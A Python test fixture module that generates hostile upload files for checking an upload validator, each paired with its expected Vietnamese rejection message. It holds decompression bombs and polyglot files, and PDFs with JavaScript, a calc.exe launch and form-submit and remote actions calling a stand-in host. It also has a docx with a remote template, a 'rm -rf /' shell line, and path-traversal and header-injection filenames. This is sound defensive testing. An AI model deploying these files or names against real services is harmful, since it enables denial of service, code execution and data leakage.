"""Files that want to do harm, made here so that nobody has to keep them. Each: name, bytes, and the
words of the refusal, or "" where it is taken and made harmless."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

MEGABYTE = 1024 * 1024


@dataclass(frozen=True)
class Hostile:
    """`words` "" : it is taken, and `is_harmless` is asked of what was kept."""

    case: str
    name: str
    make: Callable[[], bytes]
    words: str

    def __str__(self) -> str:
        return self.case


def hostile_files() -> Iterator[Hostile]:
    """All of them. Office files are for a portal that takes them."""
    yield from _bombs()
    yield from _two_natured()
    yield from _cut()
    yield from _acting()
    yield from _of_other_kinds()
    yield from _offices()


def _bombs() -> Iterator[Hostile]:
    pixels = "triệu điểm ảnh"
    yield Hostile("png 30,000 x 30,000", "ảnh.png", lambda: _png(30_000, 30_000), pixels)
    yield Hostile("png 60,000 x 60,000", "ảnh.png", lambda: _png(60_000, 60_000), pixels)
    yield Hostile("png 2 x 2,000,000,000", "ảnh.png", lambda: _png(2, 2_000_000_000), pixels)
    yield Hostile("png with a text that unpacks", "ảnh.png", _png_with_text, "bị hỏng")
    yield Hostile("jpeg 7,000 x 7,000 turned", "ảnh.jpg", _large_jpeg, "")
    yield Hostile("png 7,000 x 7,000 in four colours", "ảnh.png", _large_png, "quá nặng")
    yield Hostile("pdf of 5,000 pages", "đơn.pdf", lambda: pdf(pages=5_000), "5000 trang")
    yield Hostile("pdf whose objects unpack", "đơn.pdf", _pdf_unpacking, "hỏng")
    yield Hostile("pdf of endless arrays", "đơn.pdf", _pdf_nested, "hỏng")
    yield Hostile("pdf of a million objects", "đơn.pdf", _pdf_of_objects, "hỏng")
    yield Hostile("pdf whose pages go in circles", "đơn.pdf", _pdf_in_circles, "hỏng")
    yield Hostile("zip", "giấy.zip", _zip_bomb, "không phải PDF")
    yield Hostile("zip called pdf", "giấy.pdf", _zip_bomb, "không phải PDF")


def _two_natured() -> Iterator[Hostile]:
    yield Hostile("pdf and zip", "đơn.pdf", _pdf_and_zip, "hỏng")
    yield Hostile("pdf and page", "đơn.pdf", lambda: pdf() + b"<script>alert(1)</script>", "hỏng")
    yield Hostile(
        "page and pdf", "đơn.pdf", lambda: b"<html><script>x</script>" + pdf(), "không phải PDF"
    )
    yield Hostile(
        "gif and script", "ảnh.png", lambda: b"GIF89a/*\0\0*/=1;alert(1)//", "không phải PDF"
    )
    yield Hostile("jpeg and zip", "ảnh.jpg", lambda: picture() + _zip_bomb(1), "")
    yield Hostile("png and page", "ảnh.png", lambda: picture("PNG") + b"<script>x</script>", "")
    yield Hostile(
        "jpeg and script in its note",
        "ảnh.jpg",
        lambda: picture(comment=b"<script>x</script>"),
        "",
    )


def _cut() -> Iterator[Hostile]:
    yield Hostile("cut jpeg", "ảnh.jpg", lambda: picture(size=(900, 900))[:3_000], "bị hỏng")
    yield Hostile("cut png", "ảnh.png", lambda: picture("PNG", (900, 900))[:600], "bị hỏng")
    yield Hostile("cut pdf", "đơn.pdf", lambda: pdf(pages=30)[:-70], "hỏng")
    yield Hostile("pdf without a body", "đơn.pdf", lambda: b"%PDF-1.7\n%%EOF", "hỏng")
    yield Hostile("nothing", "đơn.pdf", lambda: b"", "rỗng")


def _acting() -> Iterator[Hostile]:
    for name, change in (
        ("script", _script),
        ("launch", _launch),
        ("form of XFA", _xfa),
        ("address at opening", _address),
        ("another file's pages", _remote),
        ("stream outside", _stream_outside),
        ("form that sends", _sending),
    ):
        yield Hostile(f"pdf with {name}", "đơn.pdf", lambda change=change: pdf(change), "mã chạy")  # type: ignore[misc]
    yield Hostile("pdf with a file inside", "đơn.pdf", lambda: pdf(_file_inside), "đính bên trong")
    for user in ("", "x"):
        yield Hostile(
            f"pdf locked for {user or 'owners'}",
            "đơn.pdf",
            lambda user=user: pdf(encryption=pikepdf.Encryption(owner="o", user=user)),  # type: ignore[misc]
            "mật khẩu",
        )


def _of_other_kinds() -> Iterator[Hostile]:
    other = "không phải PDF"
    yield Hostile("program", "đơn.pdf", _program, other)
    yield Hostile("program called picture", "ảnh.jpg", _program, other)
    yield Hostile("drawing that runs", "ảnh.png", lambda: b"<svg onload='x'/>", other)
    yield Hostile("page", "đơn.pdf", lambda: b"<html><script>x</script>", other)
    yield Hostile("shell", "đơn.pdf", lambda: b"#!/bin/sh\nrm -rf /\n", other)
    yield Hostile("tar", "đơn.pdf", lambda: b"x\0" * 128 + b"\0" * 1 + b"ustar\x0000", other)
    yield Hostile("7z", "đơn.pdf", lambda: b"7z\xbc\xaf\x27\x1c\0\4" + b"\0" * 60, other)
    yield Hostile("rar", "đơn.pdf", lambda: b"Rar!\x1a\7\1\0" + b"\0" * 60, other)
    yield Hostile("heic", "ảnh.heic", lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", "iPhone")
    yield Hostile("jpeg called pdf", "đơn.pdf", picture, "đuôi .pdf")
    yield Hostile("pdf called program", "đơn.exe", pdf, "đuôi .exe")
    yield Hostile("two endings", "đơn.pdf.js", pdf, "đuôi .js")
    yield Hostile("old word", "đơn.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 99, other)


def _offices() -> Iterator[Hostile]:
    acting = "macro"
    yield Hostile("docx", "đơn.docx", office, "")
    yield Hostile(
        "docx with macros", "đơn.docx", lambda: office({"word/vbaProject.bin": b"x"}), acting
    )
    yield Hostile(
        "docx with a file inside",
        "đơn.docx",
        lambda: office({"word/embeddings/oleObject1.bin": b"x"}),
        acting,
    )
    yield Hostile("docx with a template from outside", "đơn.docx", _docx_calling, acting)
    yield Hostile("docx that unpacks", "đơn.docx", _docx_bomb, "quá nặng")
    yield Hostile("docx cut", "đơn.docx", lambda: office()[:-60], "bị hỏng")
    yield Hostile("zip called docx", "đơn.docx", lambda: _zip_bomb(1), "bị hỏng")


# Names that try something; (given, kept) for a PDF.
NAMES = [
    ("../../../etc/passwd.pdf", "passwd.pdf"),
    ("..\\..\\windows\\win.pdf", "win.pdf"),
    ("đơn\x00.pdf", "đơn.pdf"),
    ("đơn\u202efdp.exe.pdf", "đơnfdp.exe.pdf"),
    ("a" * 300 + ".pdf", "a" * 196 + ".pdf"),
    ("CON.pdf", "_CON.pdf"),
    ("lpt1.PDF", "_lpt1.PDF"),
    ("đơn.pdf...", "đơn.pdf"),
    ("  .pdf", "tep.pdf"),
    ("đơn 🏠.pdf", "đơn 🏠.pdf"),
    ("Đo\u031b\u0300n.pdf", "Đờn.pdf"),
    ('x"; filename="y.pdf', "x'; filename='y.pdf"),
    ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie_ x.pdf"),
    ("<b>|*?.pdf", "_b____.pdf"),
]


def pdf(
    change: Callable[[pikepdf.Pdf], None] | None = None, pages: int = 1, **how: object
) -> bytes:
    document = pikepdf.new()
    for _number in range(pages):
        document.add_blank_page()
    if change:
        change(document)
    out = io.BytesIO()
    document.save(out, **how)  # type: ignore[arg-type]
    return out.getvalue()


def picture(kind: str = "JPEG", size: tuple[int, int] = (60, 40), **how: object) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(out, kind, **how)
    return out.getvalue()


def office(more: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bundle:
        bundle.writestr("[Content_Types].xml", "<Types/>")
        bundle.writestr("_rels/.rels", "<Relationships/>")
        bundle.writestr("word/document.xml", "<document/>")
        for name, content in (more or {}).items():
            bundle.writestr(name, content)
    return out.getvalue()


def _png(width: int, height: int, before: bytes = b"") -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\0" * 10_000_000, 9)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        (_chunk(b"IHDR", head), before, _chunk(b"IDAT", data), _chunk(b"IEND", b""))
    )


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png_with_text() -> bytes:
    text = b"Comment\0\0" + zlib.compress(b"x" * 500 * MEGABYTE, 9)
    plain = picture("PNG")
    return plain[:33] + _chunk(b"zTXt", text) + plain[33:]


def _large_jpeg() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 6
    out = io.BytesIO()
    Image.new("RGB", (7_000, 7_000), "navy").save(out, "JPEG", exif=exif)
    return out.getvalue()


def _large_png() -> bytes:
    out = io.BytesIO()
    Image.new("RGBA", (7_000, 7_000), (0, 0, 99, 9)).save(out, "PNG", compress_level=1)
    return out.getvalue()


def _pdf_of(objects: dict[int, bytes], size: int) -> bytes:
    parts, offsets, place = [b"%PDF-1.5\n"], {}, 9
    for number, text in objects.items():
        offsets[number] = place
        parts.append(b"%d 0 obj\n" % number + text + b"\nendobj\n")
        place += len(parts[-1])
    rows = b"".join(
        b"%010d 00000 n \n" % offsets[n] if n in offsets else b"0000000000 65535 f \n"
        for n in range(size)
    )
    parts += [b"xref\n0 %d\n" % size, rows]
    return b"".join(parts) + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        place,
    )


_CATALOG = {
    1: b"<</Type/Catalog/Pages 2 0 R/Extra 4 0 R>>",
    2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
    3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
}


def _pdf_unpacking() -> bytes:
    from tests.test_uploads import pdf_with_object_stream

    return pdf_with_object_stream(512)


def _pdf_nested() -> bytes:
    return _pdf_of({**_CATALOG, 4: b"[" * 400_000 + b"]" * 400_000}, 5)


def _pdf_of_objects() -> bytes:
    return _pdf_of({**_CATALOG, **dict.fromkeys(range(4, 250000), b"1")}, 250_000)


def _pdf_in_circles() -> bytes:
    return _pdf_of({**_CATALOG, 2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"}, 4)


def _zip_bomb(megabytes: int = 200) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bundle:
        bundle.writestr("a.txt", b"\0" * (megabytes * MEGABYTE))
    return out.getvalue()


def _pdf_and_zip() -> bytes:
    out = io.BytesIO(pdf())
    out.seek(0, 2)
    with zipfile.ZipFile(out, "a") as bundle:
        bundle.writestr("a.txt", "%%EOF")
    return out.getvalue()


def _program() -> bytes:
    return b"MZ\x90\0" + b"\0" * 56 + struct.pack("<I", 64) + b"PE\0\0" + b"\0" * 200


def _script(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def _launch(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.Launch, F="calc.exe")


def _xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp/>"))


def _address(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.URI, URI="https://xau.example/")


def _remote(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.GoToR, F="//xau.example/a.pdf", D=Array([0]))


def _stream_outside(document: pikepdf.Pdf) -> None:
    outside = document.make_stream(b"", F=Dictionary(FS=Name.URL, F="http://xau.example/x"))
    document.pages[0].Contents = outside


def _sending(document: pikepdf.Pdf) -> None:
    document.Root.AA = Dictionary(WC=Dictionary(S=Name.SubmitForm, F="https://xau.example/"))


def _file_inside(document: pikepdf.Pdf) -> None:
    document.attachments["x.exe"] = b"MZ"


def _docx_calling() -> bytes:
    relation = (
        b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" '
        b'Target="http://xau.example/x.dotm" TargetMode="External"/></Relationships>'
    )
    return office({"word/_rels/settings.xml.rels": relation})


def _docx_bomb() -> bytes:
    return office({"word/media/x.png": b"\0" * (150 * MEGABYTE)})
